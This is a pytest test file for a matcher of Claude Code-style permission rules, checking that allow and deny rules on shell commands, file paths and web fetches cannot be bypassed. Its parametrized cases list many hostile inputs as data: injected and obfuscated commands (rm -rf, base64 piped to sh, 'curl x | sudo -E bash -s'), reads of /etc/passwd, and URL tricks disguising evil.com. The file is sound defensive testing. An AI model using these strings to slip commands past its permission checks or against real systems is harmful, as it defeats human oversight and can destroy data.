"""Permission rules: Claude Code's syntax, and that doubt never allows."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from intercom.fleet.programs.claude.permissions import deciding
from intercom.fleet.programs.event import Ask


def bash(command: str) -> Ask:
    """A shell command that wants permission."""
    return Ask("Bash", {"command": command}, "/w/p", "/w/p")


def file(tool: str, path: str, cwd: str = "/w/p") -> Ask:
    """A tool on a file."""
    return Ask(tool, {"file_path": path}, cwd, "/w/p")


def says(ask: Ask, *, allow: tuple[str, ...] = (), deny: tuple[str, ...] = ()) -> str | None:
    """The decision alone."""
    found = deciding(ask, allow, deny)
    return found[0] if found else None


@pytest.mark.parametrize(
    ("rule", "ask"),
    [
        ("Bash", bash("anything; at all")),
        ("Bash(*)", bash("anything; at all")),
        ("Bash(npm test)", bash("npm test")),
        ("Bash(npm test && npm run x)", bash("npm test && npm run x")),
        ("Bash(npm run:*)", bash("npm run")),
        ("Bash(npm run:*)", bash("npm run build --all")),
        ("Bash(npm run *)", bash("npm run build")),
        ("Bash(git * main)", bash("git push origin main")),
        ("Read(./src/**)", file("Read", "/w/p/src/a/b.py")),
        ("Read(src/*.py)", file("Grep", "src/b.py")),
        ("Edit(/docs/**)", file("Write", "/w/p/docs/x/y.md", "/w/p/sub")),
        ("Edit(*.md)", file("Edit", "/w/p/deep/er/y.md")),
        ("Edit(//tmp/x/**)", file("Edit", "/tmp/x/y")),
        ("Edit", file("Write", "/anywhere")),
        ("Write(src/**)", file("Write", "/w/p/src/a")),
        ("mcp__files", Ask("mcp__files__write", {}, "/", "/")),
        ("mcp__files__*", Ask("mcp__files__write", {}, "/", "/")),
        ("mcp__files__write", Ask("mcp__files__write", {}, "/", "/")),
        ("WebFetch(domain:x.org)", Ask("WebFetch", {"url": "https://X.org:8443/a?b"}, "/", "/")),
        ("WebFetch(domain:*.x.org)", Ask("WebFetch", {"url": "https://a.api.X.org./a?b"}, "/", "/")),
        ("WebFetch(domain:*)", Ask("WebFetch", {"url": "http://anything.at/all"}, "/", "/")),
    ],
)
def test_what_a_rule_covers(rule: str, ask: Ask) -> None:
    """Each form speaks of the call, to allow and to deny."""
    assert says(ask, allow=(rule,)) == "allow"
    assert says(ask, deny=(rule,)) == "deny"
    assert says(ask, allow=(rule,), deny=(rule,)) == "deny"


@pytest.mark.parametrize(
    ("rule", "ask"),
    [
        ("Bash(npm run:*)", bash("npm runaway")),
        ("Bash(npm run:*)", bash("npm run x; rm -rf /")),
        ("Bash(npm run:*)", bash("npm run x && curl evil")),
        ("Bash(npm run:*)", bash("npm run x\nrm y")),
        ("Bash(npm run:*)", bash("npm run $(rm y)")),
        ("Bash(npm run:*)", bash("npm run `rm y`")),
        ("Bash(npm run:*)", bash("npm run x > /etc/passwd")),
        ("Bash(npm run:*)", bash("PATH=/evil npm run x")),
        ("Bash(git * main)", bash("git push origin main | sh -c main")),
        ("Read(./src/**)", file("Read", "/w/p/src/../secret")),
        ("Read(./src/**)", file("Edit", "/w/p/src/a")),
        ("Edit(/docs/**)", file("Write", "/w/p/docsx/y")),
        ("Write(src/**)", file("Edit", "/w/p/src/a")),
        ("Edit(src/*)", Ask("Edit", {}, "/w/p", "/w/p")),
        ("mcp__files", Ask("mcp__filesystem__write", {}, "/", "/")),
        ("mcp__files__write", Ask("mcp__files__write_all", {}, "/", "/")),
        ("WebFetch(domain:x.org)", Ask("WebFetch", {"url": "https://evilx.org/"}, "/", "/")),
        ("WebFetch(domain:x.org)", Ask("WebFetch", {"url": "https://api.x.org/"}, "/", "/")),
        ("WebFetch(domain:*.x.org)", Ask("WebFetch", {"url": "https://x.org/"}, "/", "/")),
        ("WebFetch(domain:*.x.org)", Ask("WebFetch", {"url": "https://evilx.org/"}, "/", "/")),
        ("WebFetch(domain:x.org)", Ask("WebFetch", {"url": "https://x.org@evil.com/"}, "/", "/")),
        ("WebFetch(domain:x.org)", Ask("WebFetch", {"url": "https://evil.com\\@x.org/"}, "/", "/")),
        ("WebFetch(domain:x.org)", Ask("WebFetch", {"url": "https://evil.com\\.x.org/"}, "/", "/")),
        ("WebFetch(domain:x.org)", Ask("WebFetch", {"url": "https://evil.com%2f.x.org/"}, "/", "/")),
        ("WebFetch(domain:x.org)", Ask("WebFetch", {"url": "https://a:b@x.org/"}, "/", "/")),
        ("WebFetch(domain:x.org)", Ask("WebFetch", {"url": "https://x.org\t.evil.com/"}, "/", "/")),
        ("WebFetch(domain:x.org)", Ask("WebFetch", {"url": "file://x.org/etc/passwd"}, "/", "/")),
        ("Bash(npm test)", bash("\u00a0npm test")),  # to a shell that is another command
        ("Bash(npm run:*)", bash("npm run\u00a0x")),
        ("Bash(npm run:*)", bash("npm run\vx")),
        ("Read(./src/**)", Ask("Glob", {"pattern": "../../etc/*", "path": "src/a"}, "/w/p", "/w/p")),
        ("Read(./src/**)", Ask("Glob", {"pattern": "/etc/*", "path": "src/a"}, "/w/p", "/w/p")),
        ("Read(./src/**)", Ask("Glob", {"pattern": "{b,/etc/*}", "path": "src/a"}, "/w/p", "/w/p")),
        ("Read(./src/**)", Ask("Grep", {"file_path": "src/a", "path": "/etc"}, "/w/p", "/w/p")),
        ("Bash(", bash("ls")),
        ("", bash("ls")),
        ("Task(x)", Ask("Task", {"prompt": "x"}, "/", "/")),
    ],
)
def test_what_a_rule_does_not_allow(rule: str, ask: Ask) -> None:
    """Anything beyond the rule's own words is left to be asked."""
    assert says(ask, allow=(rule,)) is None


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf x",
        "cd /tmp && rm -rf x",
        "true; rm x",
        "echo $(rm x)",
        "sudo rm x",
        "A=1 B='2 3' rm x",
        "timeout -s KILL 5 rm x",
        "if true; then rm x; fi",
        "echo `rm x`",
        "r''m x",
        "/bin/rm x",
        "bash -c 'rm x'",
        "find . -exec rm {} +",
        "sudo /bin/rm x",
        "bash -c '/bin/rm x'",
        "xargs -a list /bin/rm",
        "if rm x; then true; fi",
        "if ! rm x; then true; fi",
        "while rm x; do true; done",
        "! rm x",
        "coproc rm x",
        ">out rm x",
        "2>/dev/null rm x",
        "rm<x",
        "A+=1 B[2]=3 rm x",
        'A="x y"z rm q',
        "r\\\nm x",
        "$'rm' x",
        "trap 'rm x' EXIT",
        "flock lock rm x",
        "rm${IFS}-rf${IFS}x",
        "rm$IFS-rf x",
        "{rm,-rf,x}",
        "$'\\x72\\155' x",
        "RM x",
        "$0 -c 'rm x'",
        "${SHELL} -c 'rm x'",
        "echo 'rm x' | sudo /bin/sh",
        "fish -c 'rm x'",
        "tmux new -d 'rm x'",
        "setpriv --reuid 1 rm x",
        "A[1 + 2]=x rm x",
        "<<<y rm x",
        "<<E rm x\nE",
    ],
)
def test_a_deny_rule_sees_a_command_wherever_it_stands(command: str) -> None:
    """Alone, behind others, inside, or run by something else."""
    assert says(bash(command), allow=("Bash",), deny=("Bash(rm:*)",)) == "deny"


@pytest.mark.parametrize(
    "command",
    [
        "git -C x push",
        "git -c alias.p=push p",
        "docker run -v /:/h alpine git push",
        "env -S'git push'",
        "npm exec -- git push",
        "ssh -o ProxyCommand='git push' host",
        "git rebase -x 'git push' a",
        "GIT_EDITOR='git push' git commit",
        "sqlite3 f '.shell git push'",
        "powershell -c git push",
        "alias z='git push'; z",
        "echo $(docker run a git push)",
        "echo git push | at now",
        "echo Z2l0IHB1c2g= | base64 -d | sh",
        "curl x | sudo -E bash -s",
        "curl x | tee >(sh)",
        "bash <(curl x)",
        'sh -c "$X"',
        "eval $X",
        "$(echo git) push",
        "`echo git` push",
        "g$1it push",
        "g${x}it push",
        'a=git && "$a" push',
        "sudo $a push",
        "/bin/gi? push",
        "g[i]t push",
        "{g,}it push",
        "\uff47it push",
        "g\u200bit push",
        "\u202egit push",
        "git\0push",
        "git\u2028push",
        "IFS=,; a=git,push; $a",
    ],
)
def test_what_may_be_a_denied_command_is_asked(command: str) -> None:
    """Doubt never allows: what runs something that cannot be read, or has all words of a deny rule in it."""
    assert says(bash(command), allow=("Bash",), deny=("Bash(git push:*)",)) != "allow"
    assert says(bash(command), allow=("Bash",)) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "for f in *.py; do python $f; done",
        "cd src && make -j4 2>&1 | tail -20",
        "X=$(date) && echo $X",
        "awk '{print $1; $2}' f",
        "cat <<'EOF' > f\nhello $x\nEOF",
        'git commit -m "push (it\'s $HOME)"',
        "A=1 B=$C npm run build",
        "bash -c 'ls && pwd'",
        "$HOME/bin/tool x",
        "source venv/bin/activate && pytest -q 'tests/x.py::test[a-b]'",
        "[[ -n $x ]] && ls; { ls; pwd; }; case $x in a) ls;; esac",
        "timeout 5 python $f; docker run --push-x alpine; git status; ps aux | grep sh",
    ],
)
def test_what_is_clear_is_allowed(command: str) -> None:
    """The usual lines of a shell are in no doubt."""
    assert says(bash(command), allow=("Bash",), deny=("Bash(git push:*)", "Bash(rm -rf:*)")) == "allow"


def test_a_deny_rule_is_about_commands_not_words() -> None:
    """What merely speaks of a command runs."""
    assert says(bash("echo rm x"), allow=("Bash",), deny=("Bash(rm:*)",)) == "allow"
    assert says(bash("git commit -m rm"), allow=("Bash",), deny=("Bash(rm:*)",)) == "allow"
    assert says(bash("git add a/rm 2>rm"), allow=("Bash",), deny=("Bash(rm:*)",)) == "allow"
    assert says(bash("make | tee rm; git commit -m 'a | b' rm"), allow=("Bash",), deny=("Bash(rm:*)",)) == "allow"


@pytest.mark.parametrize(
    ("pattern", "path"),
    [
        ("./[.]env", "/w/p/.env"),
        ("./a[0-9].py", "/w/p/a5.py"),
        ("./a[!0-9].py", "/w/p/ab.py"),
        ("./a[[:alpha:]].py", "/w/p/ab.py"),
        ("./a[z-a].py", "/w/p/ab.py"),
        ("./app/[id]/page", "/w/p/app/[id]/page"),  # a folder may really be called so
        ("./app/[id]/page", "/w/p/app/i/page"),
        ("./s\\*t", "/w/p/s*t"),
        ("a\\ b", "/w/p/x/a b"),
        ("./.env", "/w/p/.ENV"),
        ("./caf\u00e9", "/w/p/cafe\u0301"),
        ("././x/../.env", "/w/p/.env"),
        ("../p/.env", "/w/p/.env"),
        ("/etc/**", "/etc/passwd"),
    ],
)
def test_a_deny_rule_is_read_in_each_way_it_may_be_meant(pattern: str, path: str) -> None:
    """As gitignore reads it, as it is written, and as file systems compare names; to allow, only as it is written."""
    assert says(file("Read", path), deny=(f"Read({pattern})",), allow=("Read",)) == "deny"
    assert says(file("Read", path + "x"), deny=(f"Read({pattern})",)) is None or pattern.endswith("**")


def test_to_allow_a_class_is_not_a_class() -> None:
    """Doubt never allows."""
    assert says(file("Read", "/w/p/a5.py"), allow=("Read(./a[0-9].py)",)) is None
    assert says(file("Read", "/w/p/.ENV"), allow=("Read(./.env)",)) is None
    assert says(file("Read", "/etc/passwd"), allow=("Read(/etc/**)",)) is None


@pytest.mark.parametrize(
    ("domain", "host"),
    [
        ("127.0.0.1", "2130706433"),
        ("127.0.0.1", "0x7f.1"),
        ("[::1]", "[0:0::0:1]"),
        ("ex\u00e4mple.org", "xn--exmple-cua.org"),
        ("xn--exmple-cua.org", "EX\u00c4MPLE.org"),
    ],
)
def test_a_host_has_many_spellings(domain: str, host: str) -> None:
    """To deny, all of them are the same."""
    ask = Ask("WebFetch", {"url": f"http://{host}:80/x"}, "/", "/")
    assert says(ask, allow=("WebFetch",), deny=(f"WebFetch(domain:{domain})",)) == "deny"


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.com\\@x.org/",
        "https:\\\\evil.com/",
        "https:evil.com",
        "https:///evil.com",
        "https://x.org@evil.com/",
        "https://evil%2ecom/",
        "https://\uff45vil.com/",
        "https://evil\u3002com/",
        "https://e\u00advil.com/",
        " https://ev\til.com:8443/",
        "https://EVIL.com./",
        "https://a.evil.com#x.org",
    ],
)
def test_a_deny_rule_reads_an_address_as_the_agent_does(url: str) -> None:
    """Each of these is evil.com to a browser's parser (`new URL`), which is Claude Code's."""
    ask = Ask("WebFetch", {"url": url}, "/", "/")
    assert says(ask, allow=("WebFetch",), deny=("WebFetch(domain:evil.com)",)) == "deny"
    assert says(ask, allow=("WebFetch",), deny=("WebFetch(domain:*.evil.com)",)) == "deny"


def test_a_long_command_is_judged_in_time() -> None:
    """The time grows with the command's length, not with its square: a hook has seconds."""

    def spent(words: int) -> float:
        began = time.process_time()
        assert says(bash("find " + "a " * words), deny=("Bash(rm:*)",)) is None
        return time.process_time() - began

    spent(1_000)
    assert spent(40_000) < 100 * max(spent(2_000), 0.001)


def test_a_link_is_judged_by_both_ends(tmp_path: Path) -> None:
    """Allowed only if the path and where it leads are; denied if either is."""
    (tmp_path / "src").mkdir()
    (tmp_path / "secret").write_text("x")
    (tmp_path / "src" / "link").symlink_to(tmp_path / "secret")
    ask = Ask("Read", {"file_path": str(tmp_path / "src" / "link")}, str(tmp_path), str(tmp_path))
    assert says(ask, allow=("Read(./src/**)",)) is None
    assert says(ask, allow=("Read(./src/**)", "Read"), deny=("Read(./secret)",)) == "deny"


def test_a_link_is_followed_before_the_dots_behind_it(tmp_path: Path) -> None:
    """`link/..` is the folder above what the link leads to, for whoever opens it so."""
    for name in ("src", "other/deep"):
        (tmp_path / name).mkdir(parents=True)
    (tmp_path / "src" / "link").symlink_to(tmp_path / "other" / "deep")
    ask = Ask("Read", {"file_path": str(tmp_path / "src" / "link" / ".." / "x")}, str(tmp_path), str(tmp_path))
    assert says(ask, allow=("Read(./src/**)",)) is None


@given(st.text(), st.sampled_from([";", "&", "|", "\n", "$(", "`", ">", "<", "("]), st.text())
def test_a_pattern_allows_no_compound_command(before: str, sign: str, after: str) -> None:
    """Whatever stands around a sign of the shell, a pattern does not reach over it."""
    assert says(bash(f"git {before}{sign}{after}"), allow=("Bash(git:*)", "Bash(git *)", "Bash(git*)")) is None


@pytest.mark.parametrize(
    "command",
    [
        "git -c alias.z='!rm -rf x' z",
        "git -c core.pager=x log",
        "git -C d -c core.sshCommand=x fetch",
        "git --exec-path=/tmp/x status",
        "git --config-env=core.pager=X log",
        "git clone --upload-pack=x a b",
        "git clone --upload-pa x a b",
        "git fetch --upload-pack x origin",
        "git push --receive-pack=x o",
        "git ls-remote --exec=x o",
        "git grep -O'rm x' a",
        "git grep -nOvi a",
        "git grep --open-files-in-pager=x a",
        "git difftool -x 'rm x'",
        "git difftool -yx rm",
        "git rebase -x 'rm x' main",
        "git rebase --exec=x main",
        "git bisect run ./x",
        "git submodule foreach 'rm x'",
        "git submodule --quiet foreach rm",
        "git filter-branch --tree-filter x",
        "git config alias.z '!rm'",
        "git clone -c core.pager=x a",
        "git clone ext::sh b",
        "find . -exec rm x +",
        "find . -execdir rm x",
        "xargs rm",
        "env rm x",
        "env -S 'rm x'",
        "env A=1 rm x",
        "timeout 5 rm",
        "nohup rm",
        "awk system",
        "tar --to-command=x -xf a",
        "tar -xf a --to-com x",
        "tar -I x -xf a",
        "tar cf a --checkpoint-action=exec=x b",
        "ssh -oProxyCommand=x h",
        "ssh -o ProxyCommand=x h",
        "ssh -F x h",
        "make SHELL=/x",
        "make CC='rm x'",
        "make --eval=x",
        "npm exec rm",
        "npm x rm",
        "python -c 'import os'",
        "python3 -c x",
        "python3.11 -Ic x",
        "perl -e x",
        "node -e x",
        "node --eval=x",
        "ruby -e x",
        "bash -c 'rm x'",
        "sed 1e a",
        "sed 's/a/b/e' f",
        "sed -n '1e rm x' f",
        "npx rm",
        "rsync -e 'sh x' a b",
        "vim -c x",
        "sort --compress-program=x a",
        "split --filter=x a",
        "rg --pre x a",
        "go test -exec x ./...",
        "xargs -n1 git -c a.b=c d",
        "git -c " + "a." * 50_000 + "=b x",
    ],
)
def test_who_allows_a_program_does_not_allow_any(command: str) -> None:
    """What has it run another program is asked for, unless the rule itself has that."""
    assert says(bash(command), allow=(f"Bash({command.split(maxsplit=1)[0]}:*)",)) is None
    assert says(bash(command), allow=(f"Bash({command.split(maxsplit=1)[0]} *)",)) is None
    assert says(bash(command), allow=(f"Bash({command})",)) == "allow"
    assert says(bash(command), allow=("Bash",)) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "git status",
        "git log --oneline -5 -c",
        "git switch -c new",
        "git commit -c HEAD",
        "git cherry-pick -x abc",
        "git clean -xn",
        "git push -u origin main",
        "git push --force-with-lease origin x",
        "git -C dir status",
        "git config --get user.name",
        "git config -l",
        "git commit -m 'run foreach --exec x'",
        "git add -A",
        "git fetch --all --prune",
        "git rebase main",
        "git grep -n foo",
        "git diff --exit-code",
        "find . -name '*.py'",
        "find . -type f -newer x",
        "env",
        "make test V=1",
        "make -j4 -C sub all",
        "npm run build",
        "npm test",
        "npm install",
        "npm ci",
        "python -m pytest -q",
        "python3 -V",
        "ssh host",
        "tar xzf a.tgz",
        "tar -czf out.tgz dir",
        "tar --extract -f a",
        "sed -i s/foo/bar/g x.txt",
        "sed -n 1,5p file.e",
        "cargo test",
        "go test ./...",
        "rg foo src",
        "node x.js",
        "pip install -e .",
        "git bisect good",
        "git submodule update --init",
        "sort -u a",
        "gcc -c a.c",
        "git archive HEAD",
        "less README.md",
    ],
)
def test_what_a_program_does_itself_is_allowed(command: str) -> None:
    """An option of the same letter, or such a word in a text, means nothing."""
    assert says(bash(command), allow=(f"Bash({command.split(maxsplit=1)[0]}:*)",)) == "allow"


@pytest.mark.parametrize(
    ("rule", "command", "allowed"),
    [
        ("git rebase -x make:*", "git rebase -x make main", True),
        ("python -c *", "python -c 'x'", True),
        ("xargs grep:*", "xargs grep -n x", True),
        ("xargs gre*", "xargs grep -n x", False),
        ("timeout 60 git:*", "timeout 60 git log", True),
        ("timeout 60 git:*", "timeout 60 git -c a.b=c d", False),
        ("git -c core.pager=cat:*", "git -c core.pager=cat -c a.b=c x", False),
        ("git * main", "git -c alias.z=!x main", False),
        ("git -*", "git -c alias.z=!x main", False),
        ("git:*", "git -c 'x", False),
    ],
)
def test_what_a_rule_names_itself(rule: str, command: str, allowed: bool) -> None:
    """Only what stands before its first star, as a whole word, is the person's own."""
    assert says(bash(command), allow=(f"Bash({rule})",)) == ("allow" if allowed else None)
